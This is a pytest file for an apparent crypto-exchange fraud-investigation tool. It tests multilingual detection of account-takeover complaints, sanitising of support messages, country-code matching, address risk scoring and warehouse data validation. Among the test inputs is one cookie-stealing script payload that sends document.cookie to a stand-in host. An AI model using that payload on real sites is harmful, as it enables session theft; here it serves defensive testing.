def test_earlier_cases_by_outcome(exchange, ask):
    for outcome in ("confirmed_fraud", "false_positive", "false_positive", "inconclusive"):
        exchange.add("earlier_cases", customer_id="C1", opened_at=exchange.ago(days=40), outcome=outcome)
    exchange.add("earlier_cases", customer_id="C1", opened_at=exchange.now, outcome="confirmed_fraud")
    assert ask("earlier_cases").facts == {"earlier.confirmed_fraud": 1, "earlier.false_positive": 2, "earlier.total": 4}


def test_exposure_is_never_negative(exchange, ask):
    exchange.deposit(exchange.ago(days=40), 100.0)
    exchange.deposit(exchange.ago(days=4), 50.0)
    exchange.withdraw(exchange.ago(days=3), 30.0)
    assert ask("exposure").facts == {"exposure.balance_usd": 120.0, "exposure.volume_usd_30d": 80.0}
    exchange.withdraw(exchange.ago(days=2), 500.0)
    assert ask("exposure").facts["exposure.balance_usd"] == 0.0


@pytest.mark.parametrize(
    ("body", "unauthorised", "travel"),
    [
        ("I did not make this withdrawal! Somebody is in my account, please stop it.", True, False),
        ("I got a mail that my e-mail address was changed. That was not me!", True, False),
        ("Das war nicht ich, bitte sperren Sie das Konto.", True, False),
        ("Me robaron el teléfono.", True, False),
        ("Ce n'était pas moi, on m'a volé mon compte.", True, False),
        ("I will be travelling abroad next week, please do not lock my account.", False, True),
        ("Mein Konto wurde gehackt", True, False),
        ("How long does a bank deposit usually take?", False, False),
        ("I did not receive the code, please help", False, False),
        ("The login from Spain is me", False, False),
        ("It was me", False, False),
        ("I could not make a deposit", False, False),
        ("I have not made any deposit", False, False),
        ("My card was not stolen", False, False),
        ("My card wasn't stolen", False, False),
        ("Was my payment authorised by the bank?", False, False),
        ("The app did not recognise my face", False, False),
        ("It wasn\u2019t me", True, False),
        ("not me", True, False),
        ("I was hacked", True, False),
        ("My account was hacked", True, False),
        ("Someone stole my account", True, False),
        ("Unauthorised withdrawal", True, False),
        ("I don't recognise this login", True, False),
        ("I have not made this withdrawal", True, False),
        ("I never authorised any of it", True, False),
        ("My phone was stolen on the trip, I had to reset everything on a new one.", True, True),
        ("I did not withdraw this money, please help", True, False),
        ("My money is gone! Someone took everything", True, False),
        ("This withdrawal was fraud", True, False),
        ("I never sent this", True, False),
        ("My account has been hijacked", True, False),
        ("I want to report fraud, there is a withdrawal I know nothing about", True, False),
        ("Não fui eu, alguém entrou na minha conta e levou tudo", True, False),
        ("Meu dinheiro sumiu da conta", True, False),
        ("Non sono stato io, mi hanno rubato il conto", True, False),
        ("Это не я, меня взломали, верните деньги", True, False),
        ("Я не выводил эти деньги", True, False),
        ("Ktoś włamał się na moje konto", True, False),
        ("Nie zlecałem tej wypłaty", True, False),
        ("Hesabım çalındı, bu çekimi ben yapmadım", True, False),
        ("Benim degil, hesabim calindi", True, False),
        ("我的账户被盗了", True, False),
        ("我没有提款，请冻结", True, False),
        ("No hice este retiro", True, False),
        ("Je n\u2019ai pas demande\u0301 ce retrait", True, False),
        ("Ich habe diese Auszahlung nicht gemacht", True, False),
        ("Your fraud team blocked my card, please unlock it", False, False),
        ("Why was I suspected of fraud?", False, False),
        ("I did not send the documents yet, sorry", False, False),
        ("Ich habe das Geld noch nicht überwiesen", False, False),
        ("No me robaron, solo pregunto", False, False),
        ("Somebody sent me a dollar I did not ask for. What is this?", False, False),
        ("Der Betrag betrug 100 Euro, wann kommt er an?", False, False),
        ("Quanto tempo demora um saque para a minha conta?", False, False),
        ("Quanto ci mette un prelievo?", False, False),
        ("Сколько времени занимает вывод?", False, False),
        ("Ile trwa wypłata środków?", False, False),
        ("Para çekme işlemi ne kadar sürer?", False, False),
        ("请问提现要多长时间？", False, False),
        ("Сейчас я за границей", False, True),
        ("hello", False, False),
        ("ok \U0001f44d", False, False),
        ("12345?", False, False),
        ("<script>fetch('https://collect.example/?c=' + document.cookie)</script> hello?", False, False),
        ("Dit is niet door mij gedaan, iemand heeft mijn rekening leeggehaald", None, None),
        ("Hello, nu am facut eu aceasta retragere, cineva a intrat in cont", None, None),
        ("Jag har inte gjort det här uttaget", None, None),
        ("Це не мій вивід, гроші зникли з рахунку", None, None),
        ("私はこの出金をしていません", None, None),
        ("لم أقم بهذا السحب", None, None),
    ],
)
def test_support_messages_by_key_words(exchange, ask, body, unauthorised, travel):
    exchange.add("support_messages", customer_id="C1", at=exchange.ago(days=1), direction="customer", body=body)
    exchange.add(
        "support_messages", customer_id="C1", at=exchange.ago(days=1), direction="agent", body="hacked? travelling?"
    )
    found = ask("support_messages")
    assert found.facts["support.messages"] == 1
    assert found.facts.get("support.reported_unauthorised") is unauthorised
    assert found.facts.get("support.mentions_travel") is travel
    text = unicodedata.normalize("NFKC", body)
    assert json.loads(found.exhibits[0].content) == [{"at": "2026-05-31T12:00:00Z", "text": text}]


def test_a_message_without_text_is_counted_and_not_quoted_and_may_say_anything(exchange, ask):
    exchange.add("support_messages", customer_id="C1", at=exchange.ago(days=1), direction="customer", body=None)
    found = ask("support_messages")
    assert (found.facts, found.exhibits) == ({"support.messages": 1}, ())
    exchange.add("support_messages", customer_id="C1", at=exchange.ago(days=1), direction="customer", body="hacked!")
    assert ask("support_messages").facts == {"support.messages": 2, "support.reported_unauthorised": True}


def test_hostile_messages_are_quoted_without_their_tricks(exchange, ask):
    exchange.add(
        "support_messages",
        customer_id="C1",
        at=exchange.ago(days=1),
        direction="customer",
        body="a\x00b\u202ec" + "x" * 9_000,
    )
    (quote,) = json.loads(ask("support_messages").exhibits[0].content)
    assert quote["text"].startswith("abcx")
    assert len(quote["text"]) <= 500


def test_a_subject_that_is_not_in_the_warehouse_is_not_innocent(exchange, ask):
    exchange.rows["customers"] = [row for row in exchange.rows["customers"] if row["customer_id"] != "C1"]
    with pytest.raises(ToolError, match="no account in the warehouse"):
        ask("velocity")


def test_an_empty_table_is_not_innocence(exchange, ask):
    exchange.rows["withdrawals"].clear()
    with pytest.raises(WarehouseError, match="'withdrawals' of the warehouse is empty"):
        ask("velocity")


def test_the_flag_of_a_minute_ago_is_not_yet_history(exchange, ask):
    exchange.deposit(exchange.now, 5.0)
    exchange.deposit(exchange.now + timedelta(seconds=1), 7.0)
    assert ask("velocity").facts["activity.deposited_usd_24h"] == 5.0


def test_an_amount_that_is_no_number_is_a_failed_load(exchange, ask):
    exchange.deposit(exchange.ago(days=1), math.nan)
    with pytest.raises(WarehouseError, match="'deposits' lacks a cell"):
        ask("structuring")


@pytest.mark.parametrize(
    ("mine", "home", "listed", "agrees"),
    [
        ("RUS", "DEU", "RUS", True),
        ("RU", "DE", "RUS", True),
        ("DEU", "ru ", " Rus", True),
        ("DEU", "DEU", "D", True),
        ("DEU", "FRA", "RU", False),
        ("XAT", "UTO", "RUS", False),
        ("RUS", "DEU", "Russia", None),
        ("Russia", "DEU", "RUS", None),
        ("DEU", "R", "RUS", None),
        ("XXX", "DEU", "RUS", None),
        ("DEU", "DEU", "XXA", None),
        ("Germany", "RU", "RUS", True),
    ],
)
def test_countries_disagree_only_where_each_is_known(exchange, ask, mine, home, listed, agrees):
    exchange.rows["customers"][-1].update(full_name="Anna Example", nationality=mine, residence_country=home)
    _listed(exchange, "Anna Example", country=listed)
    found = ask("name_screening")
    assert found.facts.get("screening.country_agrees") is agrees
    assert found.facts["screening.sanctions_score"] == 1.0
    assert any("code of a state (ISO 3166-1)" in note for note in found.notes) is (agrees is None)


def test_peers_live_in_one_country_however_it_is_written(exchange, ask):
    for number, country in enumerate(("DEU", "DE", "d", " deu", "Germany", "DNK")):
        exchange.customer(f"P{number}", residence_country=country)
    exchange.rows["customers"] += exchange.rows["customers"][-6:]
    assert ask("peer_group").facts == {"peers.size": 4}, "who stands there twice is one"
    exchange.rows["customers"][1]["residence_country"] = "Germany"
    assert ask("peer_group").facts == {}


@pytest.mark.parametrize(("theirs", "shared"), [("DEU", 1), ("D", 1), ("de", 1), ("FRA", 0), ("Germany", None)])
def test_a_document_number_is_of_a_country_however_that_is_written(exchange, ask, theirs, shared):
    usual = {"submitted_at": exchange.ago(days=1), "document_number": "N-1"}
    exchange.add("kyc_submissions", customer_id="C1", document_country="DEU", image_hash=(1 << 32) - 1, **usual)
    other = usual | ANOTHER | {"document_country": theirs, "image_hash": (1 << 64) - 1}
    exchange.add("kyc_submissions", customer_id="other", **other)
    found = ask("shared_documents")
    assert found.facts.get("document.accounts_sharing_number") == shared
    assert len(found.exhibits) == bool(shared)


def test_logins_from_one_country_are_that_however_it_is_written(exchange, ask):
    for hours, country in enumerate(("DE", "DEU", "deu ", "FR")):
        exchange.login(exchange.ago(hours=hours + 1), country=country)
    assert ask("geo_velocity").facts["login.countries_24h"] == 2
    exchange.login(exchange.ago(hours=7), country="Germany")
    assert "login.countries_24h" not in ask("geo_velocity").facts


@pytest.mark.parametrize(
    ("mine", "theirs", "same"), [("0xBaD", "0XbAD ", True), ("bc1qbad", "BC1QBAD", True), ("1BadX", "1badX", False)]
)
def test_addresses_are_compared_as_their_letters_mean(exchange, ask, mine, theirs, same):
    exchange.add("earlier_cases", customer_id="other", opened_at=exchange.ago(days=90), outcome="confirmed_fraud")
    exchange.add("chain_addresses", chain_address=theirs, risk_score=0.95, category="mixer")
    exchange.withdraw(exchange.ago(days=9), 5.0, who="other", chain_address=theirs)
    exchange.withdraw(exchange.ago(days=40), 5.0, chain_address=theirs)
    exchange.withdraw(exchange.ago(days=1), 5_000.0, chain_address=mine)
    exchange.rows["withdrawals"].pop(-2)
    shared = ask("shared_addresses")
    assert shared.facts == {"address.accounts_sharing": same, "address.confirmed_fraud_sharing": same}
    assert ask("counterparty_risk").facts.get("counterparty.risky_usd") == (5_000.0 if same else None)
    exchange.withdraw(exchange.ago(days=40), 5.0, chain_address=theirs)
    assert ask("new_device_withdrawal").facts["takeover.new_address"] is not same


def test_an_address_that_several_rows_tell_of_is_as_bad_as_the_worst_and_counts_once(exchange, ask):
    for name, score, category in (("0xbad", 0.1, "exchange"), ("0xBAD", 0.95, "sanctioned"), ("0xbad", 95.0, "mixer")):
        exchange.add("chain_addresses", chain_address=name, risk_score=score, category=category)
    exchange.withdraw(exchange.ago(days=1), 5_000.0, chain_address="0xbad")
    assert ask("counterparty_risk").facts == {
        "counterparty.max_risk": 0.95,
        "counterparty.risky_usd": 5_000.0,
        "counterparty.risky_share": 1.0,
        "counterparty.grave_usd": 5_000.0,
        "counterparty.sanctioned": True,
    }
    exchange.rows["chain_addresses"][-2:] = []
    exchange.rows["chain_addresses"][-1]["risk_score"] = 95.0
    known = {"counterparty.grave_usd": 0.0, "counterparty.sanctioned": False}
    assert ask("counterparty_risk").facts == known, "a score out of range is none"


@pytest.mark.parametrize("usd", [-5.0, float("inf"), 1e308])
@pytest.mark.parametrize(
    "stem", ["exposure", "velocity", "in_out_latency", "new_device_withdrawal", "counterparty_risk"]
)
def test_an_amount_out_of_range_is_no_amount(exchange, ask, stem, usd):
    exchange.withdraw(exchange.ago(days=1), usd, who="other")
    ask(stem)
    exchange.withdraw(exchange.ago(days=1), usd)
    with pytest.raises(WarehouseError) as caught:
        ask(stem)
    told = "column 'amount_usd' of table 'withdrawals' holds what is not a number from 0 to 1e+12"
    assert str(caught.value) == f"{told}; {REMEDY_OF_NUMBERS}"


OWNED = [
    (tool.name.removeprefix("sql."), table.name, table.key)
    for tool in load_playbook()
    for table in load_catalogue().tables
    if table.name in tool.run.main.tables and table.owners
]


@pytest.mark.parametrize(("stem", "table", "key"), OWNED)
def test_what_a_customer_has_twice_is_not_counted_twice(exchange, ask, stem, table, key):
    exchange.add("watchlist")
    clock = load_catalogue().table(table).clock
    row = ({clock: exchange.ago(days=1)} if clock else {}) | dict.fromkeys(load_catalogue().table(table).owners, "C1")
    exchange.add(table, **(row | {"customer_id": "other"} if "customer_id" in row else {"buyer_id": "other"}))
    exchange.rows[table].append(exchange.rows[table][-1])
    ask(stem)
    if table != "customers":
        exchange.add(table, **row)
    else:
        exchange.rows[table][:] = [each for each in exchange.rows[table] if each["customer_id"] == "C1"]
    exchange.rows[table].append(exchange.rows[table][-1])
    with pytest.raises(WarehouseError, match=f"table '{table}' has more than one row of one '{key}' of this customer"):
        ask(stem)


def _altered(exchange, desk, stem, *statements, without=frozenset()):
    """What a query tells of the exchange after its file was altered."""
    there = desk()
    there.sources.warehouse.close()
    with duckdb.connect(str(exchange.folder / "warehouse.duckdb")) as connection:
        for each in statements:
            connection.execute(each)
    with closing(Warehouse.open(there.sources.warehouse.url, without=without)) as warehouse:
        sources = dataclasses.replace(there.sources, warehouse=warehouse)
        return call_tool(all_tools()[f"sql.{stem}"], "E1", there.subject, sources)


@pytest.mark.parametrize(
    ("table", "column", "cell", "stem"),
    [
        ("customers", "kyc_level", "'2'", "account_age"),
        ("customers", "kyc_level", "'basic'", "account_age"),
        ("deposits", "amount_usd", "'9,000.00'", "exposure"),
    ],
)
def test_a_column_of_a_wrong_type_is_to_blame_and_no_tool(exchange, desk, table, column, cell, stem):
    exchange.deposit(exchange.ago(days=1), 5.0)
    retyped = f'ALTER TABLE "{table}" ALTER {column} TYPE VARCHAR', f'UPDATE "{table}" SET {column} = {cell}'
    told = _altered(exchange, desk, stem, *retyped)
    kind = load_catalogue().table(table).column(column).type
    assert isinstance(told, Unavailable)
    assert told.reason.startswith(f"column '{column}' of table '{table}' is VARCHAR, not {kind}"), told.reason


def test_days_in_the_place_of_times_are_told(exchange, desk):
    exchange.deposit(exchange.ago(hours=5), 100.0)
    exchange.withdraw(exchange.ago(hours=3), 100.0)
    days = [f'ALTER TABLE {table} ALTER "at" TYPE DATE' for table in ("deposits", "withdrawals", "logins")]
    told = _altered(exchange, desk, "in_out_latency", *days)
    lost = "is DATE, not TIMESTAMP; hours are lost, and what is told by the hour is not"
    assert told.notes == tuple(f"column 'at' of table '{table}' {lost}" for table in ("deposits", "withdrawals"))


def test_an_exchange_without_a_table_is_asked_all_the_same(exchange, desk):
    exchange.rows["earlier_cases"].clear()
    exchange.login(exchange.ago(days=1))
    gone, without = "DROP TABLE p2p_orders", frozenset({"p2p_orders", "earlier_cases"})
    burst = _altered(exchange, desk, "dormant_burst", gone, without=without)
    assert burst.provenance.source == "warehouse: customers, deposits, withdrawals; rightly empty: p2p_orders"
    assert burst.facts[0].value == 365
    devices = _altered(exchange, desk, "shared_devices", gone, without=without)
    assert {fact.name: fact.value for fact in devices.facts}["device.confirmed_fraud_sharing"] == 0
    timeline = _altered(exchange, desk, "account_age", gone, without=without).exhibits
    assert "first login" in timeline[0].content
    assert isinstance(_altered(exchange, desk, "dormant_burst", gone), Unavailable)
